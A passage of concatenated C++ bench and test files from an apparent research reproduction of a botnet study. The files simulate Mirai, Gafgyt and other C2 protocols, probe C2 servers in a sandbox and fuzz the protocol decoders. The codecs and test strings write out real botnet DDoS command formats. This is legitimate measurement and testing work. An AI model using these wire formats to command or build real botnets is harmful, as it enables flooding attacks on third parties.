  row("same-day TI miss", util::percent(early.ti.miss_all_same_day),
      util::percent(study.ti.miss_all_same_day));
  row("exploit records", std::to_string(early.exploits),
      std::to_string(study.exploits));
  row("DDoS commands", std::to_string(early.ddos.total_attacks),
      std::to_string(study.ddos.total_attacks));

  std::cout << "\nExpected shape: the disposable-botnet era (2021-22) shows\n"
               "shorter lifespans and more dead-on-arrival C2s than a cohort\n"
               "with slower infrastructure churn — the §3.2 trend the paper\n"
               "proposes studying longitudinally.\n";
  return 0;
}
