// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Table 2", "top-10 C2-hosting ASes");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::table2_top_ases(r, p.asdb()) << std::endl;
  return 0;
}
