// Shared harness for the reproduction benches: runs the paper-scale study
// once per process and hands out the datasets. Every bench prints measured
// values next to the paper's, per the experiment index in DESIGN.md.
#pragma once

#include "core/pipeline.hpp"

namespace malnet::bench {

/// The paper-scale configuration: 1447 samples, full probing campaign.
[[nodiscard]] core::PipelineConfig paper_config();

/// Runs (once per process) and returns the full-study datasets.
[[nodiscard]] const core::StudyResults& full_study();

/// The pipeline behind full_study() (for asdb / threat-intel access).
[[nodiscard]] const core::Pipeline& full_pipeline();

/// Standard bench banner.
void banner(const char* experiment_id, const char* what);

}  // namespace malnet::bench
