// Figure 4 + Table 5: the two-week active probing study (D-PC2).
#include <iostream>

#include "botnet/probe_world.hpp"
#include "common.hpp"
#include "report/figures.hpp"

int main() {
  using namespace malnet;
  bench::banner("Figure 4 / Table 5", "C2 probe responsiveness (D-PC2)");

  std::cout << "Table 5: probed ports:";
  for (const auto p : botnet::table5_ports()) std::cout << ' ' << p;
  std::cout << "  (6 /24 subnets, 4-hour interval, 84 rounds)\n\n";

  const auto& r = bench::full_study();
  std::cout << report::figure4_probe_raster(r) << std::endl;
  return 0;
}
