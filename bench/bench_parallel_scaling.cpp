// Scaling S1: wall-clock speedup of the seed-sharded parallel executor.
//
// Runs the same sharded study at 1/2/4/8 workers and reports time plus
// speedup over the single-worker run. The shard count is fixed (8) so every
// row computes the *identical* merged datasets — verified here via the MDS
// serialization — and only the scheduling changes. Expect near-linear
// scaling up to the machine's core count; a single-core container reports
// ~1.0x across the board, which is the determinism half of the story.
//
//   bench_parallel_scaling [total_samples]   (default 1447, the paper scale)
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <string>

#include "common.hpp"
#include "core/parallel_study.hpp"
#include "report/dataset_io.hpp"
#include "util/thread_pool.hpp"

int main(int argc, char** argv) {
  using namespace malnet;
  bench::banner("Scaling S1", "seed-sharded parallel study executor");

  core::ParallelStudyConfig cfg;
  cfg.base = bench::paper_config();
  cfg.base.run_probe_campaign = false;  // shard-0-only work would skew balance
  if (argc > 1) cfg.base.world.total_samples = std::atoi(argv[1]);
  cfg.shards = 8;

  std::printf("samples=%d shards=%d hardware threads=%zu\n\n",
              cfg.base.world.total_samples, cfg.shards,
              util::ThreadPool::default_worker_count());
  std::printf("%-8s  %10s  %8s  %s\n", "workers", "wall (s)", "speedup", "output");

  double base_seconds = 0.0;
  util::Bytes reference;
  for (const int jobs : {1, 2, 4, 8}) {
    core::ParallelStudyConfig run_cfg = cfg;
    run_cfg.jobs = jobs;
    const auto t0 = std::chrono::steady_clock::now();
    const auto results = core::ParallelStudy(run_cfg).run();
    const auto t1 = std::chrono::steady_clock::now();
    const double seconds = std::chrono::duration<double>(t1 - t0).count();
    if (jobs == 1) {
      base_seconds = seconds;
      reference = report::serialize_datasets(results);
    }
    const bool identical = report::serialize_datasets(results) == reference;
    std::printf("%-8d  %10.2f  %7.2fx  %s\n", jobs, seconds,
                base_seconds / seconds,
                identical ? "bit-identical" : "MISMATCH (BUG)");
    if (!identical) return 1;
  }
  std::printf(
      "\nExpected shape: >=2x at 4 workers on >=4 cores; identical merged\n"
      "datasets on every row regardless of worker count.\n");
  return 0;
}
