// Scaling S1: wall-clock speedup of the seed-sharded parallel executor.
//
// Runs the same sharded study at 1/2/4/8 workers and reports time plus
// speedup over the single-worker run. The shard count is fixed (8) so every
// row computes the *identical* merged datasets — verified here via the MDS
// serialization — and only the scheduling changes. Expect near-linear
// scaling up to the machine's core count; a single-core container reports
// ~1.0x across the board, which is the determinism half of the story.
//
//   bench_parallel_scaling [total_samples]   (default 1447, the paper scale)
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>

#include "common.hpp"
#include "core/parallel_study.hpp"
#include "report/dataset_io.hpp"
#include "util/thread_pool.hpp"

int main(int argc, char** argv) {
  using namespace malnet;
  bench::banner("Scaling S1", "seed-sharded parallel study executor");

  core::ParallelStudyConfig cfg;
  cfg.base = bench::paper_config();
  cfg.base.run_probe_campaign = false;  // shard-0-only work would skew balance
  if (argc > 1) cfg.base.world.total_samples = std::atoi(argv[1]);
  cfg.shards = 8;

  std::printf("samples=%d shards=%d hardware threads=%zu\n\n",
              cfg.base.world.total_samples, cfg.shards,
              util::ThreadPool::default_worker_count());
  std::printf("%-8s  %10s  %8s  %s\n", "workers", "wall (s)", "speedup", "output");

  double base_seconds = 0.0;
  double plain8_seconds = 0.0;
  util::Bytes reference;
  std::string reference_metrics;
  for (const int jobs : {1, 2, 4, 8}) {
    core::ParallelStudyConfig run_cfg = cfg;
    run_cfg.jobs = jobs;
    const auto t0 = std::chrono::steady_clock::now();
    const auto results = core::ParallelStudy(run_cfg).run();
    const auto t1 = std::chrono::steady_clock::now();
    const double seconds = std::chrono::duration<double>(t1 - t0).count();
    if (jobs == 1) {
      base_seconds = seconds;
      reference = report::serialize_datasets(results);
      reference_metrics = results.metrics.to_json();
    }
    if (jobs == 8) plain8_seconds = seconds;
    const bool identical = report::serialize_datasets(results) == reference &&
                           results.metrics.to_json() == reference_metrics;
    std::printf("%-8d  %10.2f  %7.2fx  %s\n", jobs, seconds,
                base_seconds / seconds,
                identical ? "bit-identical" : "MISMATCH (BUG)");
    if (!identical) return 1;
  }
  std::printf(
      "\nExpected shape: >=2x at 4 workers on >=4 cores; identical merged\n"
      "datasets (and metrics JSON) on every row regardless of worker count.\n");

  // One fully-instrumented pass: per-event wall attribution + tracing on.
  // The per-phase table shows where the study spends its time; the delta
  // against the plain jobs=8 row bounds the instrumentation overhead.
  core::ParallelStudyConfig prof_cfg = cfg;
  prof_cfg.jobs = 8;
  prof_cfg.base.profile_wall = true;
  prof_cfg.base.trace = true;
  const auto p0 = std::chrono::steady_clock::now();
  const auto prof_results = core::ParallelStudy(prof_cfg).run();
  const auto p1 = std::chrono::steady_clock::now();
  const double prof_seconds = std::chrono::duration<double>(p1 - p0).count();

  std::printf("\nPer-phase profile (instrumented jobs=8 pass):\n%s",
              prof_results.profile.render_table().c_str());
  std::printf("\ninstrumented wall: %.2f s (plain jobs=8: %.2f s, overhead %+.1f%%); "
              "%zu trace events\n",
              prof_seconds, plain8_seconds,
              plain8_seconds > 0.0
                  ? (prof_seconds / plain8_seconds - 1.0) * 100.0
                  : 0.0,
              prof_results.trace.size());
  {
    std::ofstream out("bench_parallel_scaling_phases.json");
    if (out) out << prof_results.profile.to_json() << '\n';
  }
  if (prof_results.metrics.to_json() != reference_metrics) {
    std::printf("MISMATCH (BUG): instrumentation changed the metrics snapshot\n");
    return 1;
  }
  return 0;
}
