// Ablation: probing cadence. §3.2 concludes an active probing study "should
// be persistent and probe frequently". Sweeps the probe interval over a
// fixed two-day window and reports how much C2 liveness each cadence sees.
#include <iostream>

#include "botnet/probe_world.hpp"
#include "common.hpp"
#include "core/prober.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "report/summary.hpp"
#include "util/str.hpp"

int main() {
  using namespace malnet;
  bench::banner("Ablation A3", "probe cadence vs detected liveness (§3.2)");

  std::cout << util::pad_left("interval", 10) << util::pad_left("rounds", 8)
            << util::pad_left("servers-found", 15) << util::pad_left("resp-rate", 11)
            << util::pad_left("2nd-probe-miss", 16) << '\n';

  for (const int hours : {1, 2, 4, 8, 12}) {
    sim::EventScheduler sched;
    sim::Network net(sched);
    emu::Sandbox sandbox(net);
    botnet::ProbeWorldConfig wc;
    wc.seed = 5;
    auto world = botnet::build_probe_world(net, wc);

    std::vector<core::Weapon> weapons;
    for (const auto family : {proto::Family::kGafgyt, proto::Family::kMirai}) {
      mal::MbfBinary bin;
      bin.behavior.family = family;
      bin.behavior.c2_ip = net::Ipv4{60, 1, 1, 1};
      bin.behavior.c2_port = 23;
      util::Rng rng(static_cast<std::uint64_t>(family) + 3);
      weapons.push_back(core::Weapon{mal::forge(bin, rng), {net::Ipv4{60, 1, 1, 1}, 23}});
    }

    core::ProbeCampaignConfig pc;
    for (const auto& s : world.subnets) pc.subnets.push_back(s);
    pc.ports = botnet::table5_ports();
    pc.interval = sim::Duration::hours(hours);
    pc.rounds = static_cast<int>(14 * 24 / hours);  // fixed two-week window

    core::ProbeCampaignResult result;
    bool done = false;
    core::ProbeCampaign campaign(net, sandbox, pc, std::move(weapons),
                                 [&](core::ProbeCampaignResult r) {
                                   result = std::move(r);
                                   done = true;
                                 });
    campaign.start();
    const auto deadline = sched.now() + sim::Duration::days(16);
    while (!done && sched.now() < deadline) {
      sched.run_until(sched.now() + sim::Duration::hours(2));
    }
    const auto ps = report::probe_stats(result, 24 / hours);
    std::cout << util::pad_left(std::to_string(hours) + "h", 10)
              << util::pad_left(std::to_string(result.rounds), 8)
              << util::pad_left(std::to_string(ps.targets), 15)
              << util::pad_left(util::percent(ps.response_rate), 11)
              << util::pad_left(util::percent(ps.second_probe_nonresponse), 16) << '\n';
  }
  std::cout << "\nExpected shape: sparser cadences find fewer of the 7 elusive servers\n"
               "over the same two weeks — the paper's 'probe frequently' conclusion.\n";
  return 0;
}
