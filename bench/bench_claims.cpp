// The reproduction's self-test: every headline scalar claim from the
// paper's abstract and sections 3-5, measured vs stated, with explicit
// tolerances. This is the one bench to read first.
#include <iostream>

#include "common.hpp"
#include "report/claims.hpp"

int main() {
  using namespace malnet;
  bench::banner("Headline claims", "abstract + section 3-5 scalar findings");
  const auto checks =
      report::check_claims(bench::full_study(), bench::full_pipeline().asdb());
  std::cout << report::render_claims(checks);
  int misses = 0;
  for (const auto& c : checks) misses += c.pass ? 0 : 1;
  return misses == 0 ? 0 : 1;
}
