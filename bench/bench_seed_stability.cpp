// Robustness: the claims scorecard across seeds the calibration never saw.
// Statistical claims that ride on small populations (7 probe servers, ~16
// attacker C2s, ~35 attack targets) are expected to wobble; systematic
// misses would indicate overfit calibration.
#include <iostream>

#include "common.hpp"
#include "report/claims.hpp"

int main() {
  using namespace malnet;
  bench::banner("Robustness R1", "claim scorecard on unseen seeds");
  for (const std::uint64_t seed : {1ull, 7ull, 99ull, 2024ull}) {
    core::PipelineConfig cfg;
    cfg.seed = seed;
    core::Pipeline pipeline(cfg);
    const auto results = pipeline.run();
    int pass = 0, total = 0;
    std::string misses;
    for (const auto& c : report::check_claims(results, pipeline.asdb())) {
      ++total;
      if (c.pass) ++pass;
      else misses += " " + c.id;
    }
    std::cout << "seed " << seed << ": " << pass << "/" << total
              << (misses.empty() ? "" : "  (missed:" + misses + ")") << '\n';
  }
  std::cout << "\nExpected shape: >=21/24 on every seed; misses confined to the\n"
               "small-population statistical claims (probe raster, attacker\n"
               "lifespans, multi-attack targets).\n";
  return 0;
}
