// Auto-structured reproduction bench; see DESIGN.md experiment index.
#include <iostream>

#include "common.hpp"
#include "report/figures.hpp"
#include "report/tables.hpp"

int main() {
  using namespace malnet;
  bench::banner("Figure 5", "CDF of binaries per C2 IP");
  const auto& r = bench::full_study();
  const auto& p = bench::full_pipeline();
  (void)p;
  std::cout << report::figure5_samples_per_c2(r) << std::endl;
  return 0;
}
