// Property-based tests for every C2 protocol codec in src/proto:
//
//   round-trip laws   decode(encode(x)) == x for randomly generated
//                     commands/messages of each family
//   no-crash laws     decoders fed random buffers and structure-aware
//                     mutations of the committed corpus must return a clean
//                     error (nullopt/false), never throw or OOB-read (the
//                     ASan CI job verifies the latter)
//   error paths       explicit empty/1-byte/max-length-field regressions
//
// Failures print a seed; rerun with MALNET_CHECK_SEED=<seed> to reproduce.
#include <gtest/gtest.h>

#include "proto/attack.hpp"
#include "proto/daddyl33t.hpp"
#include "proto/family.hpp"
#include "proto/gafgyt.hpp"
#include "proto/irc.hpp"
#include "proto/mirai.hpp"
#include "proto/p2p.hpp"
#include "testkit/testkit.hpp"

using namespace malnet;
using namespace malnet::proto;
using namespace malnet::testkit;

namespace {

constexpr int kRoundTripCases = 1000;
constexpr int kNoCrashCases = 10'000;

Gen<net::Ipv4> ipv4s() {
  return apply(
      [](std::uint8_t a, std::uint8_t b, std::uint8_t c, std::uint8_t d) {
        return net::Ipv4{a, b, c, d};
      },
      any_byte(), any_byte(), any_byte(), any_byte());
}

/// A valid AttackCommand for `family`, drawing only from its repertoire.
/// ICMP-borne attacks carry port 0 like the real commands do.
Gen<AttackCommand> attack_commands(Family family) {
  return apply(
      [family](AttackType type, net::Ipv4 ip, net::Port port,
               std::uint32_t duration) {
        AttackCommand cmd;
        cmd.family = family;
        cmd.type = type;
        cmd.target = {ip, attack_protocol(type, port) == AttackProtocol::kIcmp
                              ? net::Port{0}
                              : port};
        cmd.duration_s = duration;
        return cmd;
      },
      one_of(attacks_of(family)), ipv4s(), ints<net::Port>(1, 0xFFFF),
      ints<std::uint32_t>(1, 86'400));
}

bool same_command(const AttackCommand& a, const AttackCommand& b) {
  return a.type == b.type && a.family == b.family && a.target == b.target &&
         a.duration_s == b.duration_s;
}

/// Mutation-fuzz driver: `cases` structure-aware mutants of the corpus
/// entries under `prefix`, plus pure-noise buffers, against `prop`.
template <typename Prop>
CheckResult fuzz_decoder(const std::string& corpus_prefix, Prop prop,
                         std::string name) {
  const auto corpus = corpus_inputs(corpus_prefix);
  const Mutator mutator;
  CheckConfig cfg;
  cfg.cases = kNoCrashCases;
  cfg.name = std::move(name);
  // 7 parts mutated corpus (structure-aware), 1 part pure noise.
  const auto inputs =
      apply(
          [&corpus](std::uint64_t pick, int which, util::Bytes noise) {
            return which == 0 ? noise : corpus[pick % corpus.size()];
          },
          ints<std::uint64_t>(0, 1'000'000), ints<int>(0, 7),
          byte_strings(0, 256))
          .map([&mutator](util::Bytes base) {
            // Deterministic sub-seed: mutations must not depend on ambient
            // state, only on the buffer produced for this case.
            util::Rng mrng(util::fnv1a64(util::to_hex(base)), 17);
            return mutator.mutate(base, mrng);
          });
  return check(inputs, prop, cfg);
}

}  // namespace

// --- round-trip laws ---------------------------------------------------------

TEST(RoundTrip, MiraiAttack) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "mirai round-trip";
  const auto r = check(attack_commands(Family::kMirai),
                       [](const AttackCommand& cmd) {
                         const auto decoded = mirai::decode_attack(mirai::encode_attack(cmd));
                         return decoded && same_command(*decoded, cmd);
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, MiraiHandshake) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "mirai handshake round-trip";
  const auto r = check(raw_strings(0, 255),
                       [](const std::string& id) {
                         const auto hs = mirai::decode_handshake(mirai::encode_handshake(id));
                         return hs && hs->bot_id == id;
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, GafgytAttack) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "gafgyt round-trip";
  const auto r = check(attack_commands(Family::kGafgyt),
                       [](const AttackCommand& cmd) {
                         const auto decoded = gafgyt::decode_attack(gafgyt::encode_attack(cmd));
                         return decoded && same_command(*decoded, cmd);
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, Daddyl33tAttack) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "daddyl33t round-trip";
  const auto r = check(attack_commands(Family::kDaddyl33t),
                       [](const AttackCommand& cmd) {
                         const auto decoded =
                             daddyl33t::decode_attack(daddyl33t::encode_attack(cmd));
                         return decoded && same_command(*decoded, cmd);
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, IrcPrivmsg) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "irc round-trip";
  const auto gen = apply(
      [](std::string target, std::string text) {
        return irc::privmsg("#" + target, text);
      },
      ascii_strings(1, 24), ascii_strings(1, 64, "abcdefXYZ0123456789 !*._-"));
  const auto r = check(gen,
                       [](const irc::IrcMessage& msg) {
                         const auto parsed = irc::parse(msg.serialize());
                         return parsed && parsed->command == msg.command &&
                                parsed->params == msg.params &&
                                parsed->trailing == msg.trailing;
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(RoundTrip, P2pMessages) {
  CheckConfig cfg;
  cfg.cases = kRoundTripCases;
  cfg.name = "p2p round-trip";
  const auto ids = ascii_strings(20, 20);
  const auto txns = ascii_strings(2, 2);
  const auto gen = apply(
      [](std::string id, std::string txn, std::vector<std::pair<net::Ipv4, net::Port>> ps) {
        p2p::PeersReply reply;
        reply.node_id = std::move(id);
        reply.txn = std::move(txn);
        for (const auto& [ip, port] : ps) reply.peers.push_back({ip, port});
        return reply;
      },
      ids, txns, vectors_of(pair_of(ipv4s(), ints<net::Port>(0, 0xFFFF)), 0, 16));
  const auto r = check(gen,
                       [](const p2p::PeersReply& reply) {
                         const auto ping =
                             p2p::decode_ping(p2p::encode_ping({reply.node_id, reply.txn}));
                         if (!ping || ping->node_id != reply.node_id || ping->txn != reply.txn)
                           return false;
                         const auto gp = p2p::decode_get_peers(
                             p2p::encode_get_peers({reply.node_id, reply.txn}));
                         if (!gp || gp->node_id != reply.node_id || gp->txn != reply.txn)
                           return false;
                         const auto pr = p2p::decode_peers_reply(p2p::encode_peers_reply(reply));
                         return pr && pr->node_id == reply.node_id &&
                                pr->txn == reply.txn && pr->peers == reply.peers;
                       },
                       cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

// --- no-crash laws -----------------------------------------------------------
// Decoders are total functions: any byte buffer produces either a value or a
// clean nullopt/false — never an exception, OOB access, or hang.

TEST(NoCrash, MiraiDecoders) {
  const auto r = fuzz_decoder("mirai_",
                              [](util::BytesView wire) {
                                (void)mirai::decode_handshake(wire);
                                (void)mirai::decode_attack(wire);
                                (void)mirai::is_keepalive(wire);
                                return true;  // surviving is the property
                              },
                              "mirai no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(NoCrash, GafgytDecoders) {
  const auto r = fuzz_decoder("gafgyt_",
                              [](util::BytesView wire) {
                                const std::string line(wire.begin(), wire.end());
                                (void)gafgyt::decode_hello(line);
                                (void)gafgyt::decode_attack(line);
                                (void)gafgyt::is_ping(line);
                                (void)gafgyt::is_pong(line);
                                return true;
                              },
                              "gafgyt no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(NoCrash, Daddyl33tDecoders) {
  const auto r = fuzz_decoder("daddyl33t_",
                              [](util::BytesView wire) {
                                const std::string line(wire.begin(), wire.end());
                                (void)daddyl33t::decode_login(line);
                                (void)daddyl33t::decode_attack(line);
                                (void)daddyl33t::is_ping(line);
                                (void)daddyl33t::is_pong(line);
                                return true;
                              },
                              "daddyl33t no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(NoCrash, IrcParser) {
  const auto r = fuzz_decoder("irc_",
                              [](util::BytesView wire) {
                                (void)irc::parse(std::string(wire.begin(), wire.end()));
                                return true;
                              },
                              "irc no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(NoCrash, P2pDecoders) {
  const auto r = fuzz_decoder("p2p_",
                              [](util::BytesView wire) {
                                (void)p2p::decode_ping(wire);
                                (void)p2p::decode_get_peers(wire);
                                (void)p2p::decode_peers_reply(wire);
                                (void)p2p::looks_like_dht(wire);
                                return true;
                              },
                              "p2p no-crash");
  EXPECT_TRUE(r.ok) << r.summary();
}

// --- error paths -------------------------------------------------------------
// The canonical adversarial minima, as named regression cases: empty input,
// a single byte, and length fields announcing more data than present.

TEST(ErrorPath, EmptyAndOneByteBuffers) {
  const std::vector<util::Bytes> minima = {{}, {0x00}, {0xFF}};
  const auto r = check_each(minima,
                            [](util::BytesView wire) {
                              const std::string line(wire.begin(), wire.end());
                              return !mirai::decode_handshake(wire) &&
                                     !mirai::decode_attack(wire) &&
                                     !gafgyt::decode_attack(line) &&
                                     !gafgyt::decode_hello(line) &&
                                     !daddyl33t::decode_attack(line) &&
                                     !daddyl33t::decode_login(line) &&
                                     !p2p::decode_ping(wire) &&
                                     !p2p::decode_get_peers(wire) &&
                                     !p2p::decode_peers_reply(wire) &&
                                     !p2p::looks_like_dht(wire);
                            },
                            "proto empty/1-byte");
  EXPECT_TRUE(r.ok) << r.summary();
}

TEST(ErrorPath, MiraiMaxLengthFields) {
  // Frame length prefix announces 0xFFFF bytes, body absent or short.
  EXPECT_FALSE(mirai::decode_attack(util::from_hex("ffff")));
  EXPECT_FALSE(mirai::decode_attack(util::from_hex("ffff 00000001 00 01")));
  // Handshake id_len = 255 with a short id.
  EXPECT_FALSE(mirai::decode_handshake(util::from_hex("00000001 ff 6161")));
  // Option value length announces 255 bytes that are not there.
  // (frame len=14: duration=1s, vector 0, 1 target, 1 option whose value
  //  length byte says 0xFF with no value following)
  EXPECT_FALSE(mirai::decode_attack(
      util::from_hex("000e 00000001 00 01 01020304 20 01 07 ff")));
}

TEST(ErrorPath, MiraiRegressionNTargetsOverflow) {
  // Found by the mutator: n_targets = 0xFF with a single-target body must
  // reject cleanly (the per-target skip walks off the end).
  auto wire = corpus_file("mirai_attack.bin");
  ASSERT_GE(wire.size(), 8u);
  wire[7] = 0xFF;  // n_targets lives after len(2) + duration(4) + vector(1)
  EXPECT_FALSE(mirai::decode_attack(wire));
}

TEST(ErrorPath, TextProtocolsHugeNumericFields) {
  // 2^64 overflow and >u16 ports must both reject, not wrap around.
  EXPECT_FALSE(gafgyt::decode_attack("!* UDP 1.2.3.4 80 99999999999999999999\n"));
  EXPECT_FALSE(gafgyt::decode_attack("!* UDP 1.2.3.4 65536 10\n"));
  EXPECT_FALSE(daddyl33t::decode_attack("UDPRAW 1.2.3.4 80 18446744073709551616\n"));
  EXPECT_FALSE(daddyl33t::decode_attack("UDPRAW 1.2.3.4 99999 10\n"));
}
