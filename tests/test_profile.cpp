// malnet::profile — declarative family profiles (DESIGN.md §16).
//
// The load-bearing contract: for every builtin profile the data-driven
// path (profile::wire codecs, registry-resolved behaviour) is byte-
// identical to the compiled-in proto::* codecs and to the pre-profile
// study output; malformed or ambiguous profile files are rejected with
// line/field context and never crash the parser (fuzzed from the
// committed profile_* corpus); and a data-only variant profile runs
// end-to-end — planner to C2 server to sandboxed bot — without any C++
// behaviour-table change.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <memory>

#include "botnet/c2server.hpp"
#include "botnet/world.hpp"
#include "core/parallel_study.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "profile/parse.hpp"
#include "profile/registry.hpp"
#include "profile/wire.hpp"
#include "proto/daddyl33t.hpp"
#include "proto/gafgyt.hpp"
#include "proto/mirai.hpp"
#include "report/dataset_io.hpp"
#include "testkit/testkit.hpp"

using namespace malnet;
using namespace malnet::profile;
namespace fs = std::filesystem;

namespace {

std::string tmp_path(const std::string& name) {
  return ::testing::TempDir() + "/" + name;
}

void write_text(const std::string& path, const std::string& text) {
  std::ofstream f(path);
  ASSERT_TRUE(f) << "cannot write " << path;
  f << text;
}

/// A temp directory holding the builtin profiles as canonical dumps —
/// loading it must reproduce the compiled-in behaviour bit-for-bit.
std::string builtin_dump_dir(const std::string& name) {
  const auto dir = tmp_path(name);
  fs::create_directories(dir);
  for (const auto* p : Registry::builtin().all()) {
    write_text(dir + "/" + p->name + ".json", p->to_pretty_json());
  }
  return dir;
}

FamilyProfile make_variant() {
  auto v = builtin_profile(proto::Family::kMirai);
  v.name = "mirai-fallback";
  v.handshake_magic = 2;
  v.extra_fallbacks = 2;
  v.attacker_quota = 0;
  return v;
}

proto::AttackCommand make_cmd(proto::Family family, proto::AttackType type) {
  proto::AttackCommand cmd;
  cmd.family = family;
  cmd.type = type;
  cmd.target = {net::Ipv4{198, 51, 100, 7},
                proto::attack_protocol(type, 80) == proto::AttackProtocol::kIcmp
                    ? net::Port{0}
                    : net::Port{80}};
  cmd.duration_s = 30;
  return cmd;
}

bool same_command(const proto::AttackCommand& a, const proto::AttackCommand& b) {
  return a.type == b.type && a.family == b.family && a.target == b.target &&
         a.duration_s == b.duration_s;
}

}  // namespace

// --- builtin profiles --------------------------------------------------------

TEST(Profile, BuiltinsValidateAndCoverEveryFamily) {
  for (std::size_t i = 0; i < proto::kFamilyCount; ++i) {
    const auto f = static_cast<proto::Family>(i);
    const auto p = builtin_profile(f);
    EXPECT_EQ(p.id, f);
    EXPECT_EQ(p.name, proto::to_string(f));
    EXPECT_FALSE(p.validate().has_value())
        << proto::to_string(f) << ": " << *p.validate();
    EXPECT_EQ(p.is_text_like(),
              p.framing == Framing::kText || p.framing == Framing::kIrc);
    // The profile's command repertoire matches the compiled-in table the
    // attack planner used before profiles existed.
    if (!p.commands.empty()) {
      const auto want =
          proto::attacks_of(f == proto::Family::kTsunami ? proto::Family::kGafgyt : f);
      EXPECT_EQ(p.command_types(), want) << proto::to_string(f);
    }
  }
}

TEST(Profile, CanonicalRoundTripPreservesProfileAndHash) {
  for (const auto* p : Registry::builtin().all()) {
    ParseIssue issue;
    const auto back = parse_profile(p->to_pretty_json(), &issue);
    ASSERT_TRUE(back.has_value()) << p->name << ": " << issue.render();
    EXPECT_EQ(*back, *p) << p->name;
    EXPECT_EQ(back->content_hash(), p->content_hash()) << p->name;
  }
  // The variant survives the same round trip.
  const auto v = make_variant();
  const auto back = parse_profile(v.to_pretty_json(), nullptr);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, v);
}

// --- wire parity with the compiled-in proto codecs ---------------------------

TEST(ProfileWire, MiraiBinaryFramingMatchesProtoByteForByte) {
  const auto p = builtin_profile(proto::Family::kMirai);
  EXPECT_EQ(wire::encode_handshake(p, "bot-7"),
            proto::mirai::encode_handshake("bot-7"));
  EXPECT_EQ(wire::encode_keepalive(), proto::mirai::encode_keepalive());
  EXPECT_TRUE(wire::is_keepalive(proto::mirai::encode_keepalive()));

  for (const auto type : proto::attacks_of(proto::Family::kMirai)) {
    const auto cmd = make_cmd(proto::Family::kMirai, type);
    const auto ours = wire::encode_binary_attack(p, cmd);
    EXPECT_EQ(ours, proto::mirai::encode_attack(cmd)) << proto::to_string(type);
    // Cross-decoding: each decoder accepts the other's bytes.
    const auto d1 = wire::decode_binary_attack(p, proto::mirai::encode_attack(cmd));
    const auto d2 = proto::mirai::decode_attack(ours);
    ASSERT_TRUE(d1 && d2) << proto::to_string(type);
    EXPECT_TRUE(same_command(*d1, cmd));
    EXPECT_TRUE(same_command(*d2, cmd));
  }

  const auto hs = wire::decode_handshake(p, proto::mirai::encode_handshake("x"));
  ASSERT_TRUE(hs.has_value());
  EXPECT_EQ(hs->bot_id, "x");
}

TEST(ProfileWire, GafgytTextFramingMatchesProtoByteForByte) {
  const auto p = builtin_profile(proto::Family::kGafgyt);
  EXPECT_EQ(wire::encode_hello(p, "MIPS"), proto::gafgyt::encode_hello("MIPS"));
  EXPECT_EQ(wire::encode_ping(p), proto::gafgyt::encode_ping());
  EXPECT_EQ(wire::encode_pong(p), proto::gafgyt::encode_pong());
  EXPECT_TRUE(wire::is_ping(p, "PING"));
  EXPECT_FALSE(wire::is_ping(p, "ping me"));

  const auto arch = wire::decode_hello(p, proto::gafgyt::encode_hello("ARMv7"));
  ASSERT_TRUE(arch.has_value());
  EXPECT_EQ(*arch, "ARMv7");

  for (const auto type : proto::attacks_of(proto::Family::kGafgyt)) {
    const auto cmd = make_cmd(proto::Family::kGafgyt, type);
    const auto ours = wire::encode_text_attack(p, cmd);
    EXPECT_EQ(ours, proto::gafgyt::encode_attack(cmd)) << proto::to_string(type);
    const auto d1 = wire::decode_text_attack(p, proto::gafgyt::encode_attack(cmd));
    const auto d2 = proto::gafgyt::decode_attack(ours);
    ASSERT_TRUE(d1 && d2) << proto::to_string(type);
    EXPECT_TRUE(same_command(*d1, cmd));
    EXPECT_TRUE(same_command(*d2, cmd));
  }
}

TEST(ProfileWire, Daddyl33tTextFramingMatchesProtoByteForByte) {
  const auto p = builtin_profile(proto::Family::kDaddyl33t);
  EXPECT_EQ(wire::encode_hello(p, "bot42"), proto::daddyl33t::encode_login("bot42"));
  EXPECT_EQ(wire::encode_ping(p), proto::daddyl33t::encode_ping());
  EXPECT_EQ(wire::encode_pong(p), proto::daddyl33t::encode_pong());

  const auto id = wire::decode_hello(p, proto::daddyl33t::encode_login("bot42"));
  ASSERT_TRUE(id.has_value());
  EXPECT_EQ(*id, "bot42");
  EXPECT_FALSE(wire::decode_hello(p, "l33t LOGIN a b\n").has_value());

  for (const auto type : proto::attacks_of(proto::Family::kDaddyl33t)) {
    const auto cmd = make_cmd(proto::Family::kDaddyl33t, type);
    const auto ours = wire::encode_text_attack(p, cmd);
    EXPECT_EQ(ours, proto::daddyl33t::encode_attack(cmd)) << proto::to_string(type);
    const auto d1 = wire::decode_text_attack(p, proto::daddyl33t::encode_attack(cmd));
    const auto d2 = proto::daddyl33t::decode_attack(ours);
    ASSERT_TRUE(d1 && d2) << proto::to_string(type);
    EXPECT_TRUE(same_command(*d1, cmd));
    EXPECT_TRUE(same_command(*d2, cmd));
  }
}

